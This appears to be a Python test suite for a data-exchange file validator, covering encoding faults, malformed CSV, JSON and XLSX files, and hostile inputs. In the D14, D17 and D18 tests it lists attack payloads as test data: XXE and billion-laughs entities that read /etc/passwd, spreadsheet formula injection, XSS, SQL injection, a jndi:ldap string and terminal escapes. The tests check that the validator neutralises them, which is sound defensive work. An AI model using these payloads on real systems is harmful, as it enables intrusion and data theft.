"""Files as careless programs and ill-willed people make them, for every contract: the cases D01 to D20 of exchanges of files.

A case is in the name of each test's parameters (``D06 unbalanced quote: ccas/accompagnement``). Where the format cannot have it, the
feed is left out.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Callable, Iterable
from html.parser import HTMLParser
from pathlib import Path
from unittest.mock import patch

import pytest
from typer.testing import CliRunner

import battery
from battery import DELIMITED, JSON, XLSX, XML, Said, broken_copy, contract_of, judged, lenient, said, sample, staged, values_in
from passerelle.checks.inspection import Inspection
from passerelle.cli import check as check_command
from passerelle.contract.model import Column, Contract
from passerelle.derive.mutate import mutations, spoilt_value, with_value
from passerelle.derive.synthetic.spoilable import UNKNOWN_NAME, UNKNOWN_VALUE, free_columns
from passerelle.findings import Effect, Verdict
from passerelle.population.nir import nir_key
from passerelle.receipt import build
from passerelle.receipt.page import render

COUNT = 12
FEEDS = tuple(feed for feed in battery.FEEDS if contract_of(feed).layout.format != "fixed")
"""A place of fixed width has no room for what is written here."""
REFUSE, ASIDE, WARN = Effect.REFUSE, Effect.SET_ASIDE, Effect.WARN
LINES = (*DELIMITED, *JSON)
TEXT = (*LINES, *XML)
Mark = Callable[[Callable[..., None]], Callable[..., None]]


def over(case: str, feeds: Iterable[str]) -> Mark:
    """The test for each of these feeds, under the name of the case."""
    return pytest.mark.parametrize("feed", list(feeds), ids=lambda feed: f"{case}: {feed}")


def with_text(feed: str) -> bool:
    return bool(free_columns(contract_of(feed)))


def spoiling(*kinds: str) -> list[str]:
    """The feeds in which all of these mistakes can be made."""
    return [feed for feed in FEEDS if set(kinds) <= set(mutations(contract_of(feed)))]


def good(feed: str) -> bytes:
    return sample(feed, COUNT)[1]


def free_column(feed: str) -> Column:
    """A text that stands in the file."""
    contract = contract_of(feed)
    wrong = spoilt_value(contract, good(feed), "mojibake")
    assert wrong is not None
    return wrong[0]


def line_of_change(contract: Contract, before: bytes, after: bytes) -> int:
    return battery.first_difference(contract, before, after)


def is_written(contract: Contract, text: str) -> bool:
    """Whether files of the contract can hold the text."""
    if contract.layout.format in ("xml", "xlsx"):
        return not re.search("[\x00-\x08\x0b-\x1f]", text)
    if contract.layout.encoding.startswith("iso") and re.search("[\x80-\x9f]", text):
        return False  # letters of Windows-1252, and refused as such
    try:
        return bool(text.encode(contract.layout.encoding))
    except UnicodeEncodeError:
        return False


# D01 to D05: bytes


@over("D01 byte order mark", spoiling("byte_order_mark"))
def test_a_byte_order_mark_is_no_part_of_the_first_value(feed: str) -> None:
    bad = broken_copy(contract_of(feed), "byte_order_mark", COUNT)
    assert bad.startswith(codecs.BOM_UTF8)
    assert said(judged(lenient(feed), bad)) == set()
    assert staged(contract_of(feed), bad) == staged(contract_of(feed), good(feed))
    assert "\ufeff" not in str(staged(contract_of(feed), bad))


@over("D02 UTF-16", TEXT)
def test_utf_16_is_refused_and_never_guessed(feed: str) -> None:
    text = good(feed).decode(contract_of(feed).layout.encoding)
    for encoding in ("utf-16-le", "utf-16-be"):
        mark = codecs.BOM_UTF16_LE if encoding.endswith("le") else codecs.BOM_UTF16_BE
        assert said(judged(contract_of(feed), mark + text.encode(encoding))) == {Said("encoding", 1, REFUSE)}
        assert said(judged(contract_of(feed), text.encode(encoding))) == {Said("nul", 1, REFUSE)}


@over("D03 cp1252 for UTF-8", [feed for feed in LINES if contract_of(feed).layout.encoding == "utf-8"])
def test_bytes_of_another_encoding_are_refused_at_the_first(feed: str) -> None:
    lines = good(feed).split(b"\n")
    lines[7] = re.sub(rb"([A-Za-z])", "é".encode("cp1252"), lines[7], count=1)
    lines[9] = re.sub(rb"([A-Za-z])", "é".encode("cp1252"), lines[9], count=1)
    assert said(judged(contract_of(feed), b"\n".join(lines))) == {Said("encoding", 8, REFUSE)}


@over("D03 UTF-8 for cp1252", [feed for feed in DELIMITED if contract_of(feed).layout.encoding == "cp1252"])
def test_utf_8_in_place_of_a_single_byte_encoding_is_refused_as_a_whole(feed: str) -> None:
    contract = contract_of(feed)
    accented = with_value(contract, good(feed), free_column(feed), "Éléonore")
    seen = judged(contract, accented.decode("cp1252").encode())
    assert said(seen) == {Said("encoding", None, REFUSE)}
    assert "UTF-8" in seen.reason


@over("D03 mojibake", filter(with_text, FEEDS))
def test_letters_garbled_before_the_file_was_sent_are_told_where_they_stand(feed: str) -> None:
    contract, column = lenient(feed), free_column(feed)
    # A genuine accent beside the garbled one: else the whole file is UTF-8 under another name.
    for text in ("Né BÃ©ziers", "été â€™", "à Å“uvr", "sÃ\xa0rt é", "é identit‚", "é M\ufffdl"):
        if is_written(contract, text) and len(text) <= (column.max_length or 99):
            bad = with_value(contract, good(feed), column, text)
            seen = judged(contract, bad)
            assert said(seen) == {Said("mojibake", line_of_change(contract, good(feed), bad), WARN)}, text
            assert text in values_in(contract, bad, column), "nothing is repaired in silence"


@over("D03 no mojibake", filter(with_text, FEEDS))
def test_letters_that_french_has_are_not_taken_for_garbled_ones(feed: str) -> None:
    contract, column = lenient(feed), free_column(feed)
    for text in ("ÂGÉ, NÉ À Á", "l’été", "« œuf »", "Noël – 5 €", "São João", "château", "naïf…"):
        if is_written(contract, text) and len(text) <= (column.max_length or 99):
            assert said(judged(contract, with_value(contract, good(feed), column, text))) == set(), text


@over("D04 NUL", TEXT)
def test_a_nul_is_refused_with_its_line_wherever_it_stands(feed: str) -> None:
    lines = good(feed).split(b"\n")
    for at in (0, 5, len(lines) - 2):
        bad = [b"\0" + line if number == at else line for number, line in enumerate(lines)]
        assert said(judged(contract_of(feed), b"\n".join(bad))) == {Said("nul", at + 1, REFUSE)}


@over("D05 separators of Unicode", filter(with_text, FEEDS))
def test_only_line_ends_end_a_line(feed: str) -> None:
    contract, column = lenient(feed), free_column(feed)
    for separator in ("\x1c", "\x1e", "\x0b", "\x0c", "\x85", "\u2028", "\u2029"):
        text = f"A{separator}B"
        if is_written(contract, text):
            bad = with_value(contract, good(feed), column, text)
            seen = judged(contract, bad)
            assert (said(seen), seen.counts.received) == (set(), COUNT), ascii(separator)
            assert text in values_in(contract, bad, column), ascii(separator)


@over("D05 line ends", spoiling("mixed_line_ends"))
def test_line_ends_may_differ_from_line_to_line(feed: str) -> None:
    bad = broken_copy(contract_of(feed), "mixed_line_ends", COUNT)
    assert len({end for end in (b"\r\n", b"\n") if end in bad.replace(b"\r\n", b"")}) == 1
    assert staged(contract_of(feed), bad) == staged(contract_of(feed), good(feed))


# D06 to D09: lines and columns


@over("D06 unbalanced quote", DELIMITED)
def test_a_quote_that_swallows_a_thousand_lines_loses_none_of_them_in_silence(feed: str) -> None:
    contract = contract_of(feed)
    first, *rest = sample(feed)[1].splitlines(keepends=True)
    lines = [*rest[:3], contract.layout.quote.encode() + rest[3], *rest[4:], *rest * 25]
    seen = judged(contract, first + b"".join(lines))
    assert Said("swallowed", 5, ASIDE) in said(seen)
    assert (seen.verdict, seen.counts.received, seen.counts.accepted) == (Verdict.HELD, len(lines), 3)


@over("D07 endless line", LINES)
def test_a_file_without_line_end_is_given_up_before_memory_grows(feed: str) -> None:
    contract = contract_of(feed)
    endless = good(feed)[:40] + b"x" * 12_000_000
    assert said(judged(contract, endless)) == {Said("line_length", 1 if feed in JSON else 1 + endless[:40].count(b"\n"), REFUSE)}


@over("D07 20,000 columns", LINES)
def test_twenty_thousand_columns_are_told_in_a_hundred_findings(feed: str) -> None:
    lines = good(feed).splitlines()
    if feed in JSON:
        bad = [b'{"k%d": 1, %b' % (number, line[1:]) for number, line in enumerate(lines * 200)]
    else:
        sign = contract_of(feed).layout.delimiter.encode()
        names = b"".join(b"%bk%d" % (sign, number) for number in range(20_000))
        bad = [lines[0] + names, *(line + sign * 20_000 for line in lines[1:])]
    contract = contract_of(feed).model_copy(
        update={"tables": tuple(table.model_copy(update={"key": ()}) for table in lenient(feed).tables)}
    )
    seen = judged(contract, b"\n".join(bad))
    assert seen.counts.accepted == seen.counts.received > 0
    assert 100 <= seen.total <= 101
    assert "d'autres encore" in battery.told(seen)[-1].message


@over("D08 end marker", filter(with_text, FEEDS))
def test_the_end_marker_of_a_database_is_a_value_like_others(feed: str) -> None:
    contract, column = contract_of(feed), free_column(feed)
    for text in (r"\.", r"\N", "NULL", "\\", "\\\\n"):
        bad = with_value(contract, good(feed), column, text)
        assert said(judged(contract, bad)) == set()
        assert text in values_in(contract, bad, column)
        assert len(staged(contract, bad)) == len(staged(contract, good(feed)))


@over("D09 renamed column", DELIMITED)
def test_a_renamed_column_is_refused_with_its_right_name(feed: str) -> None:
    contract = contract_of(feed)
    name = contract.record_table.columns[1].source
    header, rest = good(feed).split(b"\n", 1)
    renamed = header.decode(contract.layout.encoding).replace(name, f"{name}_2", 1).encode(contract.layout.encoding)
    seen = judged(contract, renamed + b"\n" + rest)
    assert said(seen) == {Said("header", 1, REFUSE)}
    assert f"« {name} »" in seen.reason


@over("D09 added column", spoiling("unknown_column"))
def test_an_added_column_is_told_and_moves_no_other(feed: str) -> None:
    bad = broken_copy(contract_of(feed), "unknown_column", COUNT)
    assert {one.effect for one in said(judged(contract_of(feed), bad))} == {WARN}
    assert staged(contract_of(feed), bad) == staged(contract_of(feed), good(feed))


@over("D09 reordered columns", spoiling("reordered_columns"))
def test_the_order_of_named_columns_does_not_matter(feed: str) -> None:
    bad = broken_copy(contract_of(feed), "reordered_columns", COUNT)
    assert staged(contract_of(feed), bad) == staged(contract_of(feed), good(feed))


# D10 to D13: values


def told_of(feed: str, column: Column, text: str) -> tuple[Contract, set[Said], Said]:
    """What is found where a column has this text, and what must be."""
    contract = lenient(feed)
    bad = with_value(contract, good(feed), column, text)
    line = line_of_change(contract, good(feed), bad)
    return contract, said(judged(contract, bad)), Said(column.type, line, column.on_failure)


def written(column: Column, year: str, month: str, day: str) -> str:
    return (column.format or "yyyy-MM-dd").replace("yyyy", year).replace("MM", month).replace("dd", day)


DATES = [("1980", "02", "31"), ("0000", "00", "00"), ("80", "02", "28"), ("1980", "31", "12"), ("1980", "2", "3"), ("1981", "02", "29")]


@over("D10 dates", spoiling("impossible_date"))
def test_a_day_that_is_none_is_told(feed: str) -> None:
    wrong = spoilt_value(contract_of(feed), good(feed), "impossible_date")
    assert wrong is not None
    column = wrong[0]
    texts = [written(column, *parts) for parts in DATES]
    texts += [written(column, "1980", "12", "30") + " 00:00:00", "hier", "29282"]
    for text in texts:
        _, found, expected = told_of(feed, column, text)
        assert found == {expected}, text


NUMBERS = ["1 234", "1\u00a0234", "1\u202f234", "12,", "1e3", "0x1F", "+5", "1-", "NaN", "Infinity", "--1", "1.2.3"]
FOREIGN = ["١٢", "1_0", "１２", "²", "½", "৩", "Ⅳ"]


def refused_numbers(feed: str, texts: list[str]) -> list[str]:
    """The texts that are taken for numbers, or told with more than one finding."""
    contract = contract_of(feed)
    wrong = spoilt_value(contract, good(feed), "underscored_number")
    assert wrong is not None
    column = wrong[0]
    sign = {"12,"} if column.type == "integer" or contract.layout.decimal == "." else set()
    texts = [text for text in texts if is_written(contract, text) and (text != "12," or sign)]
    answers = {text: told_of(feed, column, text)[1:] for text in texts}
    return [text for text, (found, expected) in answers.items() if found != {expected}]


@over("D10 amounts", spoiling("underscored_number"))
def test_a_number_in_another_notation_is_told(feed: str) -> None:
    assert refused_numbers(feed, NUMBERS) == []


@over("D10 decimal sign", spoiling("decimal_sign"))
def test_the_other_decimal_sign_is_told_and_the_right_one_proposed(feed: str) -> None:
    contract = lenient(feed)
    (finding,) = battery.told(judged(contract, broken_copy(contract, "decimal_sign", COUNT)))
    assert contract.layout.decimal in finding.proposal


CORSICAN = "185052A006084"
NIRS: dict[str, tuple[str, ...]] = {
    "": ("1850578006084", CORSICAN, CORSICAN.lower(), "2851278006084", "7850578006084", "1 85 05 78 006 084", "1855078006084"),
    "nir": ("ABC", "1850578006", "0850578006084", "5850578006084", "185057800608É"),
    "nir_temporary": ("1850512345ABC", "1123456789012345678901234567890"),
    "nir_spreadsheet": ("1,85E+14", "1850578006084.0", "1850578006084,0"),
    "nir_example": ("2690549588157",),
    "nir_key": (f"1850578006084{int(nir_key('1850578006084')) % 97 + 1:02d}",),
}


def nir_columns(contract: Contract) -> list[Column]:
    tables = [table for table in contract.tables if table.role in ("record", "child")]
    return [column for table in tables for column in table.columns if column.nir and not column.is_lifted]


@over("D11 NIR", [feed for feed in FEEDS if nir_columns(contract_of(feed))])
def test_each_way_to_spoil_a_nir_has_its_code(feed: str) -> None:
    contract = lenient(feed)
    for column in nir_columns(contract)[:1]:
        for kind, texts in NIRS.items():
            for text in texts:
                bad = with_value(contract, good(feed), column, text)
                rules = {rule.removeprefix(f"{name}.") for rule, name in _own_rules(contract, judged(contract, bad), column)}
                length = len(text.replace(" ", ""))
                fits = (column.min_length or 0) <= length <= (column.max_length or length)
                assert rules == ({kind} if kind else set() if fits else {"length"}), (kind, text)
                assert text in values_in(contract, bad, column)


def _own_rules(contract: Contract, seen: Inspection, column: Column) -> Iterable[tuple[str, str]]:
    for table in contract.tables:
        prefix = f"{table.name}.{column.name}"
        yield from ((rule, prefix) for rule in seen.rules() if rule.startswith(f"{prefix}."))


@over("D12 digits of other scripts", spoiling("underscored_number"))
def test_only_plain_digits_are_numbers(feed: str) -> None:
    assert refused_numbers(feed, FOREIGN) == []


@over("D12 digits of other scripts in a date", spoiling("foreign_digits"))
def test_only_plain_digits_are_dates(feed: str) -> None:
    contract = contract_of(feed)
    wrong = spoilt_value(contract, good(feed), "foreign_digits")
    assert wrong is not None
    column, text = wrong
    assert not text.isascii()
    _, found, expected = told_of(feed, column, text)
    assert found == {expected}


@over("D13 the same key twice", filter(with_text, spoiling("duplicate_key")))
def test_the_same_key_with_other_data_is_told_and_only_the_first_is_kept(feed: str) -> None:
    contract = lenient(feed)
    twice = broken_copy(contract, "duplicate_key", 1)
    wrong = spoilt_value(contract, twice, "mojibake")
    assert wrong is not None
    other = with_value(contract, twice, wrong[0], "AUTRE")
    assert other != twice
    seen = judged(contract, other)
    assert {(one.kind, one.effect) for one in said(seen)} == {("unique", ASIDE)}
    assert (seen.counts.received, seen.counts.accepted) == (2, 1)
    first, second = (row["_line"] for name, row in staged(contract, other) if name == contract.record_table.name)
    assert [one.line for one in said(seen)] == [second]
    assert battery.loaded_lines(contract, other, seen) == [first]


# D14 to D16: structures that blow up


_BOMB = "".join(f'<!ENTITY e{step} "{f"&e{step - 1};" * 10}">' for step in range(1, 10))
ENTITIES = {
    "billion laughs": f'[<!ENTITY e0 "ha">{_BOMB}]',
    "quadratic blow-up": f'[<!ENTITY e9 "{"x" * 100_000}">]',
    "external entity": '[<!ENTITY e9 SYSTEM "file:///etc/passwd">]',
    "parameter entity": '[<!ENTITY % e9 SYSTEM "file:///etc/passwd"> %e9;]',
    "external DTD": 'SYSTEM "http://127.0.0.1:9/x.dtd"',
    "public DTD": 'PUBLIC "x" "http://127.0.0.1:9/x.dtd"',
}


@pytest.mark.parametrize("attack", ENTITIES)
@over("D14 entities and DTD", XML)
def test_a_document_type_is_refused_before_anything_is_expanded(feed: str, attack: str) -> None:
    contract = contract_of(feed)
    root = f"<{contract.layout.root}>".encode()
    bad = good(feed).replace(root, f"<!DOCTYPE {contract.layout.root} {ENTITIES[attack]}>\n".encode() + root, 1)
    seen = judged(contract, bad.replace(b"</NUMDEMRSA>", b"&e9;" * 1000 + b"</NUMDEMRSA>", 1))
    assert {(one.kind, one.effect) for one in said(seen)} == {("doctype", REFUSE)}
    assert "root:" not in str(battery.told(seen))


@over("D14 XInclude", XML)
def test_a_file_that_asks_for_another_one_does_not_get_it(feed: str) -> None:
    bad = broken_copy(contract_of(feed), "inclusion", COUNT)
    seen = judged(contract_of(feed), bad)
    assert {one.kind for one in said(seen)} == {"unknown_element"}
    assert "root:" not in str(staged(contract_of(feed), bad)) + str(battery.told(seen))


@over("D14 depth", spoiling("deep_nesting"))
def test_endless_nesting_is_refused(feed: str) -> None:
    bad = broken_copy(contract_of(feed), "deep_nesting", COUNT)
    assert {one.kind for one in said(judged(contract_of(feed), bad))} <= {"xml", "json_depth"}


JSON_ODDITIES = {
    "a key twice": ('"{key}": null, "{key}": 1, ', "json_repeated_key"),
    "a key twice, escaped": ('"{key}": null, "\\u{first:04x}{rest}": 1, ', "json_repeated_key"),
    "NaN": ('"x": NaN, ', "json_number"),
    "Infinity": ('"x": -Infinity, ', "json_number"),
    "1e999": ('"x": 1e999, ', "json_number"),
    "many digits": (f'"x": 1{"0" * 4_400}, ', "json_number"),
    "half a character": ('"x": "\\ud800", ', "json_text"),
    "null character": ('"x": "\\u0000", ', "json_text"),
    "a comment": ("/* x */ ", "json_syntax"),
    "a single quote": ("'x': 1, ", "json_syntax"),
    "100 lists": (f'"x": {"[" * 100}1{"]" * 100}, ', "json_depth"),
    "10,000 lists": (f'"x": {"[" * 10_000}1{"]" * 10_000}, ', "json_depth"),
}


@pytest.mark.parametrize("oddity", JSON_ODDITIES)
@over("D15 JSON", JSON)
def test_json_that_programs_read_differently_is_set_aside_alone(feed: str, oddity: str) -> None:
    contract = lenient(feed)
    contract = contract.model_copy(update={"layout": contract.layout.model_copy(update={"max_line_bytes": 50_000})})
    lines = good(feed).decode().splitlines()
    key = next(iter(json.loads(lines[5])))
    more, kind = JSON_ODDITIES[oddity]
    for wanted, value in (("{key}", key), ("{first:04x}", f"{ord(key[0]):04x}"), ("{rest}", key[1:])):
        more = more.replace(wanted, value)
    tree = json.loads(lines[5])
    if "{key}" in JSON_ODDITIES[oddity][0]:
        del tree[key]
    lines[5] = "{" + more + json.dumps(tree, ensure_ascii=False)[1:]
    seen = judged(contract, "\n".join(lines).encode())
    assert said(seen) == {Said(kind, 6, ASIDE)}
    assert (seen.counts.received, seen.counts.accepted) == (COUNT, COUNT - 1)


@over("D16 formulas", XLSX)
def test_a_formula_counts_by_its_saved_result(feed: str) -> None:
    bad = _with_sheet(good(feed), lambda text: text.replace("<v>", "<f>1+1</f><v>"))
    assert b"<f>" in zipfile.ZipFile(io.BytesIO(bad)).read("xl/worksheets/sheet1.xml")
    assert said(judged(lenient(feed), bad)) == set()
    assert staged(contract_of(feed), bad) == staged(contract_of(feed), good(feed))


@over("D16 hidden rows", XLSX)
def test_hidden_rows_are_read_and_told(feed: str) -> None:
    bad = _with_sheet(good(feed), lambda text: text.replace('<row r="4"', '<row r="4" hidden="1"'))
    assert said(judged(lenient(feed), bad)) == {Said("hidden_rows", 4, WARN)}
    assert staged(contract_of(feed), bad) == staged(contract_of(feed), good(feed))


@over("D16 what else a workbook holds", XLSX)
def test_nothing_of_a_hidden_sheet_is_read_and_programs_are_refused(feed: str) -> None:
    hidden = broken_copy(contract_of(feed), "excel_hidden_sheet", COUNT)
    assert {one.kind for one in said(judged(lenient(feed), hidden))} == {"other_sheets"}
    assert staged(contract_of(feed), hidden) == staged(contract_of(feed), good(feed))
    for kind in ("excel_macro", "excel_link"):
        assert judged(contract_of(feed), broken_copy(contract_of(feed), kind, COUNT)).verdict is Verdict.REFUSED


@over("D16 inflation", XLSX)
def test_a_workbook_that_inflates_is_given_up(feed: str) -> None:
    contract = lenient(feed)
    small = contract.model_copy(update={"layout": contract.layout.model_copy(update={"max_inflated_bytes": 300_000})})
    assert judged(small, good(feed)).verdict is Verdict.ACCEPTED
    bomb = _with_sheet(good(feed), lambda text: text.replace("</sheetData>", "<!--" + " " * 5_000_000 + "--></sheetData>"))
    assert len(bomb) < 100_000
    assert said(judged(small, bomb)) == {Said("workbook_size", None, REFUSE)}


def _with_sheet(data: bytes, change: Callable[[str], str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as package, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
        for name in package.namelist():
            text = package.read(name)
            copy.writestr(name, change(text.decode()) if name == "xl/worksheets/sheet1.xml" else text)
    return out.getvalue()


# D17, D18: values that programs would run

FORMULAS = ['=HYPERLINK("http://x.example","Clic")', "+33612345678", "-1", "@SUM(A1)", "=cmd|'/C calc'!A0", "\t=1+1", "＝1+1"]
CODE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% raw %}",
    "%(x)s %s {0}",
    "${jndi:ldap://x.example}",
    "Robert'); DROP TABLE person;--",
    "[bold red]x[/]",
    "\u202egnp.exe",
    "&lt;b&gt;&amp;",
]


@over("D17 and D18 values", filter(with_text, FEEDS))
def test_formulas_and_code_in_a_value_are_stored_as_they_are(feed: str) -> None:
    contract, column = contract_of(feed), free_column(feed)
    for text in (*FORMULAS, *CODE):
        if is_written(contract, text) and len(text) <= (column.max_length or 99):
            bad = with_value(contract, good(feed), column, text)
            assert said(judged(contract, bad)) == set(), text
            assert text in values_in(contract, bad, column)


def shown_codes(contract: Contract) -> list[Column]:
    """Columns whose wrong values are repeated to the partner."""
    tables = [table for table in contract.tables if table.role in ("record", "child")]
    coded = [column for table in tables for column in table.columns if column.codes and not column.is_lifted]
    return [column for column in coded if column.classification.may_be_shown]


def with_name(contract: Contract, name: str, data: bytes) -> bytes:
    """The file with one more column of this name."""
    bad = broken_copy(contract, "unknown_column", COUNT, data)
    if contract.layout.format == "jsonlines":
        return bad.replace(f'"{UNKNOWN_NAME}"'.encode(), json.dumps(name, ensure_ascii=False).encode())
    cell = io.StringIO()
    csv.writer(cell, delimiter=contract.layout.delimiter, lineterminator="").writerow([name])
    return bad.replace(UNKNOWN_NAME.encode(), cell.getvalue().encode(contract.layout.encoding), 1)


def repeating(feed: str, text: str) -> bytes | None:
    """A file about which the partner is told this text: as a wrong code, else as the name of a column."""
    contract = contract_of(feed)
    if not is_written(contract, text):
        return None
    for column in shown_codes(contract):
        try:
            return with_value(contract, good(feed), column, text)
        except KeyError:
            continue
    return with_name(contract, text, good(feed)) if "unknown_column" in mutations(contract) and feed not in XLSX else None


class _Structure(HTMLParser):
    """The elements of a page with the names of their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(name for name, _ in attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def _plainly(text: str) -> str:
    """The text before a typographer saw it."""
    return re.sub(r"\s+", " ", text.replace("’", "'"))


@over("D17 and D18 receipts", FEEDS)
def test_formulas_and_code_are_shown_as_text_and_nothing_else(feed: str) -> None:
    name, _ = sample(feed, COUNT)
    harmless = repeating(feed, "ZZZ")
    if harmless is None:
        pytest.skip("Nothing that a partner writes is repeated in this feed's receipts.")
    plain = _Structure(render(battery.receipt_of(contract_of(feed), name, judged(lenient(feed), harmless), 1)))
    for text in (*FORMULAS, *CODE)[FEEDS.index(feed) % 4 :: 4]:  # each text meets every format
        bad = repeating(feed, text)
        if bad is None:
            continue
        seen = judged(lenient(feed), bad)
        receipt = battery.receipt_of(contract_of(feed), name, seen, 1)
        page = _Structure(render(receipt))
        assert page.elements == plain.elements, text
        if text.isprintable():
            assert _plainly(text) in _plainly(page.text)
        for part, xml in battery.workbook_of(receipt, seen).items():
            assert "\u202e" not in xml, part
            assert "<f>" not in xml, part
            assert "<hyperlink" not in xml
            if part.startswith("xl/worksheets/"):
                assert set(re.findall(r'<c [^>]*t="(\w+)"', xml)) <= {"s", "inlineStr"}
        assert "\u202e" not in page.text


@over("D18 terminal", [feed for feed in FEEDS if repeating(feed, "ZZZ")])
def test_a_value_cannot_command_the_terminal_on_which_a_file_is_checked(feed: str, tmp_path: Path) -> None:
    name, _ = sample(feed, COUNT)
    for text in ("\x1b]0;x\x07\x1b[2J", "\u202egnp.exe", "[bold]x[/bold]", "\x9b2J"):
        bad = repeating(feed, text)
        if bad is not None:
            (tmp_path / name).write_bytes(bad)
            with patch.object(check_command, "_contract", lambda *_: contract_of(feed)):
                answer = CliRunner().invoke(check_command.app, [str(tmp_path / name)])
            assert answer.exit_code == 1
            assert not {character for character in answer.output if unicodedata.category(character) in ("Cc", "Cf")} - {"\n"}
            assert "bold" not in text or "[bold]x[/bold]" in answer.output.replace("\n", " ")


@pytest.mark.parametrize("text", CODE)
def test_code_in_the_name_of_a_file_is_shown_as_text(text: str) -> None:
    contract = contract_of(FEEDS[0])
    name, data = sample(FEEDS[0], COUNT)
    expected = build.expected_names([contract])
    pages = []
    for shown in ("zzz.csv", f"{text}.csv"):
        facts = battery.receipt_of(contract, shown, judged(contract, data), 1).delivery
        unknown = facts.model_copy(update={"feed": "", "feed_name": "", "file_name": shown})
        pages.append(_Structure(render(build.unknown_name(unknown, battery.NOW, expected))))
    assert pages[0].elements == pages[1].elements


# D19, D20: what is agreed


@over("D19 threshold", FEEDS)
def test_a_file_is_held_from_the_share_on_that_was_agreed(feed: str) -> None:
    contract = lenient(feed)
    data = good(feed)
    for kind in ("impossible_date", "unknown_code", "end_marker", "missing_column", "duplicate_key"):
        if kind in mutations(contract):
            bad = broken_copy(contract, kind, COUNT)
            seen = judged(contract, bad)
            share = seen.counts.set_aside / max(seen.counts.received, 1)
            if 0 < share < 1:
                break
    else:
        pytest.fail("No mistake sets a line of this feed aside.")
    assert data != bad
    at, under = (contract.model_copy(update={"hold_above": limit}) for limit in (share, share * 0.99))
    assert "" not in [limit.rule for limit in judged(at, bad).limits]
    held = judged(under, bad)
    assert (held.verdict, held.limits[0].rule, held.limits[0].share) == (Verdict.HELD, "", share)
    assert "seuil convenu" in held.reason


@over("D20 forbidden column", [feed for feed in FEEDS if {"unknown_column", "unknown_element"} & set(mutations(contract_of(feed)))])
def test_a_column_that_must_not_be_sent_is_never_read_and_its_sender_is_told(feed: str) -> None:
    contract = contract_of(feed)
    bad = broken_copy(contract, "unknown_element" if feed in XML else "unknown_column", COUNT)
    seen = judged(contract, bad)
    (finding,) = battery.told(seen)
    assert (finding.effect, finding.column) == (WARN, UNKNOWN_NAME)
    assert "pas lu" in finding.message
    assert seen.counts.accepted == COUNT
    assert UNKNOWN_VALUE not in str(staged(contract, bad)) + str(battery.told(seen))
    assert staged(contract, bad) == staged(contract, good(feed))
